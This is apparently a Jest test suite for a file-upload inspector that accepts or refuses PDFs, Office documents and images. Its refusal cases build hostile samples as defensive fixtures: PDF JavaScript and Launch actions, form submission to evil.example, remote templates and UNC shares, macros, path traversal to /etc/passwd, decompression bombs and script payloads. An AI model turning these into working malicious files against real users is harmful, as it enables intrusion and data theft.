import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PDFDocument } from '@cantoo/pdf-lib'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { inspectFile } from './inspect-file.ts'
import { makeJpeg, makePng } from './testing/make-image.ts'
import { makePdf, pdfBomb } from './testing/make-pdf.ts'
import { makeOffice, makeZip, relation } from './testing/make-zip.ts'

let folder: string
beforeAll(async () => { folder = await mkdtemp(join(tmpdir(), 'inspect-')) })
afterAll(() => rm(folder, { recursive: true }))

let count = 0
async function inspect(content: Buffer | string, name?: string) {
  const path = join(folder, String(count += 1))
  await writeFile(path, content)
  return inspectFile(path, name)
}
const refusal = async (content: Buffer | string, name?: string) => {
  const result: unknown = await inspect(content, name).catch((error: unknown) => (error as { code: string }).code)
  return result
}

const ole = (...texts: string[]) => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024), ...texts.map((text) => Buffer.from(text, 'utf16le')), Buffer.alloc(512)])
const javascript = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const embeddedWorkbook = { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', data: makeOffice('xlsx') }

describe('what is taken in', () => {
  test.each([
    ['a PDF', makePdf(), 'Báo cáo thành tích.pdf', 'pdf'],
    ['a PDF that opens on its first page and links to the web', makePdf({ catalog: '/OpenAction [3 0 R /Fit]', page: '/Annots [<< /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://example.gov.vn) >> >>]' }), 'a.PDF', 'pdf'],
    ['a PDF with a compressed object stream', makePdf({ hidden: true, objects: ['<< /Title (x) >>'] }), 'a.pdf', 'pdf'],
    ['a docx', makeOffice('docx', [{ name: 'word/media/image1.png', data: makePng() }, { name: 'word/theme/theme1.xml', data: '<a/>' }]), 'a.docx', 'docx'],
    ['a docx with a chart and its workbook', makeOffice('docx', [embeddedWorkbook]), 'a.docx', 'docx'],
    ['a docx with a web link and a template on its author\'s disk', makeOffice('docx', [relation('hyperlink', 'https://example.gov.vn'), { ...relation('attachedTemplate', 'file:///C:\\Users\\x\\Normal.dotm'), name: 'word/_rels/settings.xml.rels' }]), 'a.docx', 'docx'],
    ['an xlsx with printer settings', makeOffice('xlsx', [{ name: 'xl/printerSettings/printerSettings1.bin', data: 'x' }]), 'a.xlsx', 'xlsx'],
    ['an xlsx of many equal cells', makeOffice('xlsx', [{ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(4_000_000, '<c><v>0</v></c>') }]), 'a.xlsx', 'xlsx'],
    ['a PNG', makePng(), 'a.png', 'png'], ['a JPEG called .jpeg', makeJpeg(), 'Ảnh.JPEG', 'jpg'], ['a file without a name', makePdf(), undefined, 'pdf'],
  ] as const)('%s', async (_what, content, name, extension) => {
    expect(await inspect(content, name)).toMatchObject({ extension })
  })
})

describe('how much there is to read', () => {
  test.each([
    ['pages of a PDF', makePdf(), { pages: 1 }], ['pixels of a PNG', makePng(3, 2), { width: 3, height: 2 }], ['pixels of a JPEG', makeJpeg(640, 480), { width: 640, height: 480 }],
  ] as const)('%s', async (_what, content, extent) => { expect(await inspect(content)).toMatchObject(extent) })
  test('nothing is claimed of a docx', async () => { expect(await inspect(makeOffice('docx'))).not.toHaveProperty('pages') })
})

test('a PDF of 300 pages whose table of objects leads nowhere is taken with all its pages, within seconds', async () => {
  const made = await PDFDocument.create()
  for (let page = 0; page < 300; page += 1) made.addPage([595, 842])
  const bytes = Buffer.from(Buffer.from(await made.save({ useObjectStreams: false })).toString('latin1').replace(/startxref\n\d/, 'startxref\n9'), 'latin1')
  const started = Date.now()
  const taken: unknown = await inspect(bytes, 'a.pdf').catch((error: unknown) => (error as { code: string }).code)
  expect(taken).toEqual(expect.objectContaining({ pages: 300 }))
  expect(Date.now() - started).toBeLessThan(60_000)
}, 120_000)

describe('what is refused', () => {
  test.each([
    ['nothing at all', '', 'a.pdf', 'file.empty'],
    ['plain text', 'xin chào', 'a.pdf', 'file.type-not-allowed'], ['HTML called PDF', '<!doctype html><script>alert(1)</script>', 'a.pdf', 'file.type-not-allowed'],
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'a.png', 'file.type-not-allowed'], ['a GIF', 'GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'a.png', 'file.type-not-allowed'],
    ['an executable', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512)]), 'a.pdf', 'file.type-not-allowed'], ['an ELF program', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(512)]), 'a.docx', 'file.type-not-allowed'],
    ['RTF', '{\\rtf1 x}', 'a.docx', 'file.type-not-allowed'], ['gzip', Buffer.concat([Buffer.from([0x1f, 0x8b, 8]), Buffer.alloc(64)]), 'a.pdf', 'file.type-not-allowed'],
    ['only zeros', Buffer.alloc(5000), 'a.png', 'file.type-not-allowed'], ['a single byte', '%', 'a.pdf', 'file.type-not-allowed'],
    ['a PDF called .docx', makePdf(), 'a.docx', 'file.type-not-allowed'], ['a PDF called .pdf.exe', makePdf(), 'a.pdf.exe', 'file.type-not-allowed'], ['a PDF without an ending', makePdf(), 'a', 'file.type-not-allowed'],
    ['a docx called .pdf', makeOffice('docx'), 'a.pdf', 'file.type-not-allowed'], ['a docx called .xlsx', makeOffice('docx'), 'a.xlsx', 'file.type-not-allowed'],
  ])('%s', async (_what, content, name, code) => { expect(await refusal(content, name)).toBe(code) })
})

describe('a PDF is refused', () => {
  test.each([
    ['with JavaScript when it opens', makePdf({ catalog: `/OpenAction ${javascript}` }), 'file.active-content'],
    ['with JavaScript behind a reference', makePdf({ catalog: '/OpenAction 10 0 R', objects: [javascript] }), 'file.active-content'],
    ['with JavaScript in a compressed object stream', makePdf({ hidden: true, catalog: '/OpenAction 10 0 R', objects: [javascript] }), 'file.active-content'],
    ['with JavaScript spelled in hex', makePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }), 'file.active-content'],
    ['with JavaScript in a name tree', makePdf({ hidden: true, catalog: '/Names 10 0 R', objects: ['<< /JavaScript << /Names [(a) 11 0 R] >> >>', '<< /A 1 >>'] }), 'file.active-content'],
    ['with JavaScript in an object that a later one replaces', Buffer.from(makePdf({ objects: [javascript] }).toString('latin1').replace('xref', '10 0 obj\n<< >>\nendobj\nxref'), 'latin1'), 'file.active-content'],
    ['with an action of its page', makePdf({ page: `/AA << /O ${javascript} >>` }), 'file.active-content'],
    ['that starts a program', makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'file.active-content'],
    ['that sends a form', makePdf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >> >>]' }), 'file.active-content'],
    ['that opens a share', makePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>' }), 'file.active-content'],
    ['with a file inside', makePdf({ hidden: true, catalog: '/Names 10 0 R', objects: ['<< /EmbeddedFiles << /Names [] >> >>'] }), 'file.active-content'],
    ['with a file pinned to a page', makePdf({ page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 1 1] >>]' }), 'file.active-content'],
    ['with an XFA form', makePdf({ catalog: '/AcroForm << /XFA 10 0 R >>', objects: ['<< >>'] }), 'file.active-content'],
    ['with a film', makePdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] >>]' }), 'file.active-content'],
    ['with a password', makePdf({ trailer: '/Encrypt 10 0 R /ID [<00><00>]', objects: ['<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1 >>'] }), 'file.encrypted'],
    ['cut off in the middle', makePdf().subarray(0, 300), 'file.broken'], ['that is only a header', '%PDF-1.7\n', 'file.broken'], ['that is header and end', '%PDF-1.7\n%%EOF\n', 'file.broken'],
    ['with a zip behind its end', makePdf({ tail: makeZip([{ name: 'a.txt', data: Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 251)) }]).toString('latin1') }), 'file.broken'],
    ['of endless nesting', makePdf({ objects: ['['.repeat(200_000)] }), 'file.broken'],
  ])('%s', async (_what, content, code) => { expect(await refusal(content, 'a.pdf')).toBe(code) })

  test('that unpacks without end, within seconds', async () => {
    const started = Date.now()
    expect(await refusal(pdfBomb(600_000_000), 'a.pdf')).toMatch(/^file\.(bomb|broken)$/)
    // The parser is stopped after 15 s; what is above that is a busy machine.
    expect(Date.now() - started).toBeLessThan(60_000)
  }, 120_000)
})

describe('an Office document is refused', () => {
  const lie = (claims: object) => makeOffice('docx', [{ name: 'word/media/a.png', data: 'x', claims }])
  const kernel = { name: 'word/media/0.png', data: Buffer.alloc(1_000_000) }
  test.each([
    ['that is any zip', makeZip([{ name: 'a.txt', data: 'x' }]), 'a.docx', 'file.type-not-allowed'], ['that is a presentation', makeOffice('pptx'), 'a.docx', 'file.type-not-allowed'],
    ['that is an empty zip', makeZip([]), 'a.docx', 'file.type-not-allowed'],
    ['with macros, called .docx', makeOffice('docm'), 'a.docx', 'file.active-content'], ['with macros, called .xlsm', makeOffice('xlsm'), 'a.xlsm', 'file.active-content'],
    ['with a macro project that its types do not name', makeOffice('docx', [{ name: 'word/vbaProject.bin', data: 'x' }]), 'a.docx', 'file.active-content'],
    ['with an OLE object', makeOffice('docx', [{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]), 'a.docx', 'file.active-content'],
    ['with ActiveX', makeOffice('docx', [{ name: 'word/activeX/activeX1.xml', data: 'x' }]), 'a.docx', 'file.active-content'],
    ['with Excel 4 macros', makeOffice('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', data: 'x' }]), 'a.xlsx', 'file.active-content'],
    ['with a program inside', makeOffice('docx', [{ name: 'word/embeddings/a.exe', data: 'MZ' }]), 'a.docx', 'file.active-content'],
    ['with a zip inside', makeOffice('docx', [{ name: 'word/media/a.zip', data: makeZip([]) }]), 'a.docx', 'file.active-content'],
    ['with a workbook in a workbook in it', makeOffice('docx', [{ ...embeddedWorkbook, data: makeOffice('xlsx', [{ name: 'xl/embeddings/a.xlsx', data: makeOffice('xlsx') }]) }]), 'a.docx', 'file.bomb'],
    ['with a macro workbook under a harmless name in it', makeOffice('docx', [{ ...embeddedWorkbook, data: makeOffice('xlsm') }]), 'a.docx', 'file.active-content'],
    ['with a template from the web', makeOffice('docx', [relation('attachedTemplate', 'http://evil.example/x.dotm')]), 'a.docx', 'file.active-content'],
    ['with a template on a share', makeOffice('docx', [relation('attachedTemplate', 'file://evil.example/x.dotm')]), 'a.docx', 'file.active-content'],
    ['with an object on a share', makeOffice('docx', [relation('oleObject', '\\\\evil\\x')]), 'a.docx', 'file.active-content'],
    ['with entities', makeOffice('docx', [], '<!DOCTYPE x [<!ENTITY a "b">]><Types/>'), 'a.docx', 'file.bomb'],
    ['with a part that shrinks a thousandfold', makeOffice('docx', [{ name: 'word/media/a.png', data: Buffer.alloc(20_000_000) }]), 'a.docx', 'file.bomb'],
    ['that claims a gigabyte', lie({ unpacked: 1_000_000_000, packed: 10_000_000 }), 'a.docx', 'file.bomb'],
    ['whose parts lie on each other', makeOffice('docx', [kernel, ...Array.from({ length: 300 }, (_, i) => ({ ...kernel, name: `word/media/${i + 1}.png`, data: '', claims: { packed: 1000, unpacked: 100_000, at: 0 } }))]), 'a.docx', 'file.bomb'],
    ['of too many parts', makeOffice('docx', Array.from({ length: 6000 }, (_, i) => ({ name: `word/media/${i}.png`, data: '' }))), 'a.docx', 'file.bomb'],
    ['that claims more parts than it has', makeZip([{ name: '[Content_Types].xml', data: '<Types/>' }], { count: 9 }), 'a.docx', 'file.broken'],
    ['with encrypted parts', lie({ flags: 1 }), 'a.docx', 'file.encrypted'],
    ['with a path that climbs out', makeOffice('docx', [{ name: '../../etc/passwd.xml', data: 'x' }]), 'a.docx', 'file.broken'],
    ['with an absolute path', makeOffice('docx', [{ name: '/etc/passwd.xml', data: 'x' }]), 'a.docx', 'file.broken'],
    ['with two parts of one name', makeOffice('docx', [{ name: 'word/Document.xml', data: 'x' }]), 'a.docx', 'file.broken'],
    ['cut off in the middle', makeOffice('docx').subarray(0, 200), 'a.docx', 'file.broken'],
    ['that is a zip and claims to be a PDF', makeZip([{ name: 'a.txt', data: 'x' }]), 'a.pdf', 'file.type-not-allowed'],
    ['with a password', ole('EncryptionInfo', 'EncryptedPackage'), 'a.docx', 'file.encrypted'], ['of 1997', ole('WordDocument'), 'a.doc', 'file.type-not-allowed'],
  ])('%s', async (_what, content, name, code) => { expect(await refusal(content, name)).toBe(code) })
})

describe('a picture is refused', () => {
  test.each([
    ['that claims 60,000 by 60,000 pixels', makePng(60_000, 60_000), 'a.png', 'file.bomb'], ['a JPEG that claims 65,535 by 65,535', makeJpeg(65_535, 65_535), 'a.jpg', 'file.bomb'],
    ['of no height', makePng(1, 0), 'a.png', 'file.broken'], ['cut off', makePng().subarray(0, 40), 'a.png', 'file.broken'], ['with data behind its end', Buffer.concat([makePng(), Buffer.from('<script>')]), 'a.png', 'file.broken'],
    ['a JPEG cut off before its frame', makeJpeg().subarray(0, 22), 'a.jpg', 'file.broken'], ['a JPEG of noise', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(500, 7)]), 'a.jpg', 'file.broken'],
    ['a JPEG called .png', makeJpeg(), 'a.png', 'file.type-not-allowed'],
  ])('%s', async (_what, content, name, code) => { expect(await refusal(content, name)).toBe(code) })
})
